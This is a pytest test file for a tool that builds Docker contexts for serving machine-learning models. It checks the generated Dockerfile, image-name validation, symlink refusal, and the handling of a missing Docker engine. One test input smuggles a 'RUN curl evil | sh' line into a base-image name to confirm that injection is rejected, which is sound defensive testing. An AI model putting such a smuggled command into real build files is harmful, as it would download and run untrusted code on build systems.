"""The Docker build context of a model (wayline.models.container, `wayline models build-docker`).

The machines have no Docker engine: the context is checked file by file, the build itself through a stand-in
`docker` command on PATH (a process boundary), and the image's entry point by starting the scoring server from
the context in a fresh virtual environment (test_docker_serving.py).
"""

from __future__ import annotations

import json
import os
import stat
import sys
import zipfile
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from wayline import __version__
from wayline.cli.main import WaylineGroup
from wayline.cli.model_batch import build_docker_command
from wayline.errors import InvalidParameterValue, InvalidState
from wayline.models.container import (
    BASE_IMAGES,
    DockerContext,
    build_docker,
    build_docker_context,
    check_image_name,
    default_base_image,
    dockerfile_text,
    source_tree,
)

ENTRYPOINT = ["wayline", "models", "serve", "-m", "/opt/wayline/model", "--host", "0.0.0.0", "--port", "8080"]


@pytest.fixture(scope="module")
def context(regressor_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> DockerContext:
    out = tmp_path_factory.mktemp("docker") / "context"
    return build_docker_context(str(regressor_dir), out, "acme/churn:1.0")


def _instruction(dockerfile: str, keyword: str) -> list[str]:
    return [line for line in dockerfile.splitlines() if line.startswith(f"{keyword} ")]


def test_the_context_holds_the_dockerfile_the_model_and_a_wayline_wheel(
    context: DockerContext, regressor_dir: Path
) -> None:
    names = sorted(p.relative_to(context.path).as_posix() for p in context.path.iterdir())
    assert names == ["Dockerfile", "model", "requirements-serving.txt", "wheels"]
    for source in regressor_dir.rglob("*"):
        if source.is_file():
            copy = context.model_dir / source.relative_to(regressor_dir)
            assert copy.read_bytes() == source.read_bytes(), copy
    assert context.wheel.name == f"wayline-{__version__}-py3-none-any.whl"
    with zipfile.ZipFile(context.wheel) as wheel:
        members = set(wheel.namelist())
    assert {"wayline/__init__.py", "wayline/models/container.py", "wayline/cli/main.py"} <= members


def test_the_dockerfile_serves_the_model_as_a_non_root_user(context: DockerContext) -> None:
    text = context.dockerfile.read_text()
    python = f"{sys.version_info.major}.{sys.version_info.minor}"
    assert _instruction(text, "FROM") == [f"FROM {BASE_IMAGES[python]}"] == [f"FROM {context.base_image}"]
    assert "-slim-" in context.base_image
    assert _instruction(text, "USER") == ["USER wayline"]
    assert "useradd --system --uid 10001" in text
    (entrypoint,) = _instruction(text, "ENTRYPOINT")
    assert json.loads(entrypoint.removeprefix("ENTRYPOINT ")) == ENTRYPOINT
    assert "COPY model/ /opt/wayline/model/" in text
    assert f"COPY wheels/{context.wheel.name} /tmp/wheels/{context.wheel.name}" in text
    assert "pip install --no-cache-dir -r /opt/wayline/model/requirements.txt" in text
    assert "http://127.0.0.1:8080/ping" in text.split("HEALTHCHECK", 1)[1]
    assert "EXPOSE 8080" in text
    assert 'org.opencontainers.image.title="acme/churn:1.0"' in text
    assert "WAYLINE_TRUSTED_MODELS" not in text
    # USER comes after the installation, before the entry point.
    assert text.index("pip install") < text.index("USER wayline") < text.index("ENTRYPOINT")


def test_the_serving_requirements_add_what_the_model_does_not_pin(context: DockerContext) -> None:
    model_requirements = (context.model_dir / "requirements.txt").read_text().lower()
    serving = (context.path / "requirements-serving.txt").read_text().splitlines()
    for line in serving:
        name, _, version = line.partition("==")
        assert name in ("pandas", "numpy")
        assert f"{name}==" not in model_requirements
        assert version
    for package in ("pandas", "numpy"):
        assert f"{package}==" in model_requirements or any(s.startswith(f"{package}==") for s in serving)


def test_dockerfile_options_workers_trust_and_base() -> None:
    text = dockerfile_text(
        base_image="registry.local/python:3.11-slim",
        wheel_name="w.whl",
        workers=4,
        trusted=True,
        image_name=None,
    )
    assert _instruction(text, "FROM") == ["FROM registry.local/python:3.11-slim"]
    (entrypoint,) = _instruction(text, "ENTRYPOINT")
    assert json.loads(entrypoint.removeprefix("ENTRYPOINT ")) == [*ENTRYPOINT, "--workers", "4"]
    assert "ENV WAYLINE_TRUSTED_MODELS=true" in text


def test_the_default_base_image_is_pinned_per_python_version() -> None:
    assert default_base_image("3.12.1") == BASE_IMAGES["3.12"]
    assert default_base_image() == BASE_IMAGES[f"{sys.version_info.major}.{sys.version_info.minor}"]
    with pytest.raises(InvalidParameterValue, match=r"no pinned base for Python 3\.9"):
        default_base_image("3.9.18")


@pytest.mark.parametrize(
    "bad",
    ["Acme/Churn", "churn model", "-churn", "churn:", "churn:tag with space", "a//b", ""],
)
def test_bad_image_names_are_refused(bad: str) -> None:
    with pytest.raises(InvalidParameterValue, match="'name'"):
        check_image_name(bad)


@pytest.mark.parametrize("good", ["churn", "acme/churn:1.0", "registry.local:5000/team/churn_model:v2.1-rc"])
def test_good_image_names_pass(good: str) -> None:
    assert check_image_name(good) == good


@pytest.mark.parametrize("bad", ["python:3.11\nRUN curl evil | sh", "python 3.11", "-python", ""])
def test_a_base_image_cannot_inject_dockerfile_lines(regressor_dir: Path, tmp_path: Path, bad: str) -> None:
    with pytest.raises(InvalidParameterValue, match="base_image"):
        build_docker_context(str(regressor_dir), tmp_path / "ctx", base_image=bad)
    assert not (tmp_path / "ctx").exists()


def test_a_non_empty_output_directory_is_refused(regressor_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("mine")
    with pytest.raises(InvalidParameterValue, match="not an empty directory"):
        build_docker_context(str(regressor_dir), tmp_path)
    assert [p.name for p in tmp_path.iterdir()] == ["keep.txt"]


def test_a_symlink_out_of_the_model_is_refused(regressor_dir: Path, tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    for source in regressor_dir.iterdir():
        if source.is_file():
            (model / source.name).write_bytes(source.read_bytes())
    secret = tmp_path / "secret.txt"
    secret.write_text("password")
    (model / "notes.txt").symlink_to(secret)
    with pytest.raises(InvalidParameterValue, match=r"notes\.txt is a symlink out of the model"):
        build_docker_context(str(model), tmp_path / "ctx")


def test_wayline_is_packaged_from_its_source_tree() -> None:
    root = source_tree()
    assert (root / "pyproject.toml").is_file()
    assert (root / "src" / "wayline" / "models" / "container.py").is_file()


def _fake_docker(folder: Path, *, engine: bool) -> Path:
    """A stand-in `docker` command: records its arguments; `info` fails unless an engine is simulated."""
    folder.mkdir()
    log = folder / "calls.txt"
    script = folder / "docker"
    script.write_text(
        f"#!{sys.executable}\n"
        "import os, sys\n"
        f"log = {str(log)!r}\n"
        "with open(log, 'a') as f:\n"
        "    f.write(' '.join(sys.argv[1:]) + '\\n')\n"
        "    if sys.argv[1:2] == ['build']:\n"
        "        f.write('context:' + ','.join(sorted(os.listdir(sys.argv[-1]))) + '\\n')\n"
        f"if sys.argv[1:2] == ['info'] and not {engine}:\n"
        "    sys.stderr.write('Cannot connect to the Docker daemon at unix:///var/run/docker.sock\\n')\n"
        "    sys.exit(1)\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return script


def test_build_docker_says_clearly_when_no_engine_answers(regressor_dir: Path, tmp_path: Path) -> None:
    docker = _fake_docker(tmp_path / "bin", engine=False)
    with pytest.raises(InvalidState, match=r"no Docker engine answers `docker info`.*Cannot connect"):
        build_docker(str(regressor_dir), "churn", docker=str(docker), context_dir=tmp_path / "ctx")
    assert not (tmp_path / "ctx").exists()  # nothing written before the engine is known
    with pytest.raises(InvalidState, match="no 'wayline-no-such-docker' command on PATH"):
        build_docker(str(regressor_dir), "churn", docker="wayline-no-such-docker")


def test_build_docker_runs_docker_build_on_the_context(regressor_dir: Path, tmp_path: Path) -> None:
    docker = _fake_docker(tmp_path / "bin", engine=True)
    context = tmp_path / "ctx"
    build_docker(str(regressor_dir), "acme/churn:2", docker=str(docker), context_dir=context)
    calls = (tmp_path / "bin" / "calls.txt").read_text().splitlines()
    assert calls == [
        "info",
        f"build --tag acme/churn:2 {context}",
        "context:Dockerfile,model,requirements-serving.txt,wheels",
    ]


@pytest.fixture
def cli() -> click.Group:
    @click.group(cls=WaylineGroup)
    def root() -> None:
        pass

    root.add_command(build_docker_command)
    return root


def test_cli_build_docker_context_only(
    cli: click.Group, regressor_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WAYLINE_TRACKING_URI", str(tmp_path / "tracking"))
    out = tmp_path / "ctx"
    args = ["build-docker", "-m", str(regressor_dir), "-n", "churn:3", "--context-only", "--workers", "2"]
    result = CliRunner().invoke(cli, [*args, "--output-directory", str(out)])
    assert result.exit_code == 0, result.output
    assert f"docker build --tag churn:3 {out}" in result.stderr
    assert '"--workers", "2"' in (out / "Dockerfile").read_text()
    missing = CliRunner().invoke(cli, args)
    assert missing.exit_code == 1
    assert "--output-directory" in missing.stderr


def test_cli_build_docker_without_an_engine_fails_in_one_line(
    cli: click.Group, regressor_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fake_docker(tmp_path / "bin", engine=False)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("WAYLINE_TRACKING_URI", str(tmp_path / "tracking"))
    result = CliRunner().invoke(cli, ["build-docker", "-m", str(regressor_dir), "-n", "churn"])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: cannot build the image: no Docker engine answers")
    assert "--context-only" in result.stderr
